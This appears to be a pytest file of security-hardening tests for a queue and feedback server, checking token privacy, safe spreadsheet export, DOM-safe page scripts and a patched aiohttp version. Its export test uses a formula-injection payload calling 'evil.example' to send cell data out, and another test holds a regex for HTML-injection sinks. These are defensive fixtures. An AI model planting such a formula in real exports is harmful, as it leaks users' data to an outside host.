"""Hardening: feedback belongs to a finished visit and its token to the visitor alone; exports never carry a
live formula; pages build nothing from HTML strings; aiohttp has no known-vulnerable floor."""

from __future__ import annotations

import io
import re
import tomllib
from pathlib import Path

import aiohttp
import openpyxl

from queue_server.exports import as_text, to_xlsx

from .support import issue, operator, running_server

ROOT = Path(__file__).resolve().parent.parent


async def test_feedback_waits_for_the_end_of_the_visit_and_staff_never_see_tokens(tmp_path) -> None:  # type: ignore[no-untyped-def]
    async with running_server(tmp_path) as server, aiohttp.ClientSession() as http:
        kiosk = await server.device_token()
        desk = await operator(server, 1)
        await desk.request("subscribe_events")
        ticket = await issue(http, server, kiosk, "id-card")
        token = ticket["feedback_token"]  # the kiosk prints it on the ticket: the visitor's own QR code
        url = f"{server.url}/api/feedback/{token}"
        async with http.post(url, json={"good": False, "comment": "ще чекаю"}) as response:
            assert response.status == 409
            assert (await response.json())["error"]["code"] == "feedback_not_yet", "no rating while still waiting"
        events = await desk.events_until(server.service.hub.last_seq)
        issued = [e["event"] for e in events if e.get("event", {}).get("type") == "ticket_issued"]
        assert issued and all("feedback_token" not in e for e in issued), "staff never receive a visitor's token"
        assert token not in str(events)
        replay = await operator(server, 2)
        replayed = await replay.request("subscribe_events", since=0)
        assert token not in str(replayed) and token not in str(await replay.events_until(server.service.hub.last_seq))
        for command in ("call_next", "start_service", "finish"):
            await desk.command(command)
        async with http.post(url, json={"good": True, "reason": "rude"}) as response:
            assert response.status == 400, "a reason outside the one list (domain/enums.py) is refused"
        async with http.post(url, json={"good": True, "reason": "politeness"}) as response:
            assert response.status == 201, await response.text()
        async with http.post(url, json={"good": False}) as response:
            assert (await response.json())["error"]["code"] == "feedback_already_given"
        for client in (desk, replay):
            await client.close()


def test_exports_keep_formula_like_text_as_text() -> None:
    report = {
        "visits": 1, "outcomes": {"served": 1, "no_show": 0, "transferred": 0, "cancelled": 0},
        "sla": {"above": 0, "within_share": 1.0}, "accessible": {"sessions": 0}, "by_service": {},
        "by_operator": {}, "heatmap": [], "rows": [],
        "feedback": {"answers": 1, "positive_share": 0.0, "complaints_per_1000": 1000.0, "comments": [
            {"at": "2026-11-24T10:00:00+02:00", "service_id": "id-card", "desk": 1, "good": False,
             "reason": None, "comment": '=HYPERLINK("http://evil.example/?"&A1,"Натисніть")'}]},
    }
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report, {})))
    cell = book["Відгуки"]["F2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK"), "the comment stays text, as typed"
    assert as_text("=1+1") == "'=1+1" and as_text("-5") == "'-5" and as_text("Добре") == "Добре" and as_text(3) == 3


def test_pages_build_nothing_from_html_strings() -> None:
    """Service names, tickets, operators and comments reach the DOM as text (display_board/static/dom.js)."""
    offenders = [p.name for p in (ROOT / "display_board" / "static").glob("*.js")
                 if re.search(r"\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write", p.read_text())]
    assert not offenders, offenders


def test_aiohttp_floor_has_no_published_vulnerabilities() -> None:
    deps = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    floor = next(d for d in deps if d.startswith("aiohttp"))
    version = tuple(int(x) for x in floor.split(">=")[1].split(",")[0].strip().split("."))
    assert version >= (3, 12, 14), floor  # CVE-2025-53643 and the 2024 ones are fixed from 3.12.14 on
    assert tuple(int(x) for x in aiohttp.__version__.split(".")[:3]) >= version
